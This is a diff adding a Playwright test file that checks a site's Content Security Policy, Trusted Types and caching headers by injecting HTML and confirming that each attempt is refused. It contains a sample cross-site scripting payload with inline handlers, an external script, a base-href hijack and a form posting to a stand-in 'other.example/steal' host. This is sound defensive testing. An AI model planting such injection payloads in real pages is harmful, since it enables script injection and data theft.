@@ -1,0 +1,150 @@
+import { readdirSync } from 'node:fs';
+import { expect, type Page, test } from '@playwright/test';
+import { sites } from './sites.ts';
+
+declare global {
+  interface Window {
+    /** The directives of the policy that something on the page broke. */
+    broken: string[];
+    /** What an attack leaves behind where it succeeds. */
+    attacked?: string;
+  }
+}
+/** Notes on the page itself what its policy refuses. */
+async function watchPolicy(page: Page): Promise<void> {
+  await page.addInitScript(() => {
+    window.broken = [];
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.broken.push(effectiveDirective));
+  });
+}
+
+test('nothing that files need which are opened by themselves is refused by the policy of the header', async ({
+  page,
+}) => {
+  await watchPolicy(page);
+  for (const path of ['/feed.xml', '/icon.svg', '/articles/7/cover.svg']) {
+    await page.goto(path);
+    expect(await page.evaluate(() => window.broken), path).toEqual([]);
+  }
+});
+
+/** What somebody who gets HTML into a page would write. */
+const attack = `
+  <p id="styled" style="position: fixed">x</p>
+  <button id="handler" onclick="window.attacked = 'handler'">x</button>
+  <img src="/missing.png" onerror="window.attacked = 'error'" alt="">
+  <script>window.attacked = 'script';</script>
+  <script src="https://other.example/x.js"></script>
+  <style>#styled { float: right }</style>
+  <form action="https://other.example/steal" method="post"><button id="form">x</button></form>
+  <base href="https://other.example/">`;
+
+for (const path of ['/code/7/', '/contact/']) {
+  for (const guard of ['header', 'meta'] as const) {
+    test(`what is injected into ${path} does nothing by the policy of the ${guard} alone`, async ({ page }) => {
+      await watchPolicy(page);
+      await page.route(`**${path}`, async (route) => {
+        const response = await route.fetch();
+        const { 'content-security-policy': policy = '', ...headers } = response.headers();
+        const html = (await response.text()).replace('</main>', `${attack}</main>`);
+        const bare = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
+        expect(bare.length).toBeLessThan(html.length);
+        await route.fulfill(
+          guard === 'header'
+            ? { status: 200, headers: { ...headers, 'content-security-policy': policy }, body: bare }
+            : { status: 200, headers, body: html },
+        );
+      });
+      await page.goto(path);
+      await page.locator('#handler').click();
+      const broken = await page.evaluate(() => window.broken);
+      for (const directive of ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'base-uri']) {
+        expect(broken, directive).toContain(directive);
+      }
+      expect(await page.evaluate(() => window.attacked)).toBeUndefined();
+      await expect(page.locator('#styled')).toHaveCSS('position', 'static');
+      await expect(page.locator('#styled')).toHaveCSS('float', 'none');
+      // The last thing, and in one step: Playwright waits for a navigation that the browser has refused.
+      const refused = await page.evaluate(() => {
+        const violation = new Promise<string>((resolve) => {
+          addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
+        });
+        document.querySelector<HTMLButtonElement>('#form')?.click();
+        return violation;
+      });
+      expect(refused).toBe('form-action');
+    });
+  }
+
+  test(`what a script of ${path} writes into it does not run`, async ({ page }) => {
+    await watchPolicy(page);
+    await page.goto(path);
+    const refused = await page.evaluate(async () => {
+      const attempts = [
+        () => {
+          const script = document.createElement('script');
+          script.textContent = "window.attacked = 'text'";
+          document.body.append(script);
+        },
+        () => {
+          const script = document.createElement('script');
+          script.append("window.attacked = 'node'");
+          document.body.append(script);
+        },
+        () => {
+          document.body.insertAdjacentHTML('beforeend', '<img src="/x" onerror="window.attacked = 1" alt="">');
+        },
+        () => {
+          const button = document.createElement('button');
+          document.body.append(button);
+          button.setAttribute('onclick', "window.attacked = 'onclick'");
+          button.click();
+        },
+      ];
+      const errors = attempts.map((attempt) => {
+        try {
+          attempt();
+          return '';
+        } catch (error) {
+          return error instanceof Error ? error.name : 'error';
+        }
+      });
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      return errors;
+    });
+    expect(await page.evaluate(() => window.attacked)).toBeUndefined();
+    // Trusted Types refuse the writing itself; where React is, the policy refuses the running.
+    const hasTrustedTypes = path !== '/contact/';
+    expect(refused[0] === 'TypeError').toBe(hasTrustedTypes);
+    expect(refused[2] === 'TypeError').toBe(hasTrustedTypes);
+    const broken = await page.evaluate(() => window.broken);
+    if (hasTrustedTypes) expect(broken).toContain('require-trusted-types-for');
+    else expect(broken).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr']));
+  });
+}
+
+test('the host is told how long to keep what, and what the page may do', async ({ page, request }) => {
+  const kept = async (path: string) => (await request.get(path)).headers()['cache-control'];
+  await page.goto('/code/7/');
+  const addresses = await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name));
+  const hashed = addresses.filter((address) => /\.[0-9a-f]{8}\.\w+$/.test(address));
+  expect(hashed.length).toBeGreaterThanOrEqual(2);
+  // Those that stand in the page are there for pages without room, too.
+  const scripts = readdirSync(`${sites.awkward.out}/scripts`).filter((name) => name.endsWith('.js'));
+  expect(scripts.length).toBeGreaterThan(5);
+  for (const address of [...hashed, ...scripts.map((name) => `/scripts/${name}`)])
+    expect(await kept(address)).toBe('public, max-age=31536000, immutable');
+  for (const path of ['/', '/code/7/', '/feed.xml', '/articles/7/cover.svg', '/icon.svg', '/favicon.ico']) {
+    expect(await kept(path), path).toBe('public, max-age=0, must-revalidate');
+  }
+  const headers = (await request.get('/nothing/')).headers();
+  expect(headers).toMatchObject({
+    'content-security-policy': expect.stringMatching(/^default-src 'none'; .*; frame-ancestors 'none'$/),
+    'strict-transport-security': 'max-age=31536000',
+    'x-content-type-options': 'nosniff',
+    'referrer-policy': 'strict-origin-when-cross-origin',
+    'permissions-policy': expect.stringContaining('camera=()'),
+    'cross-origin-opener-policy': 'same-origin',
+  });
+  expect((await request.get('/_headers')).status()).toBe(404);
+});
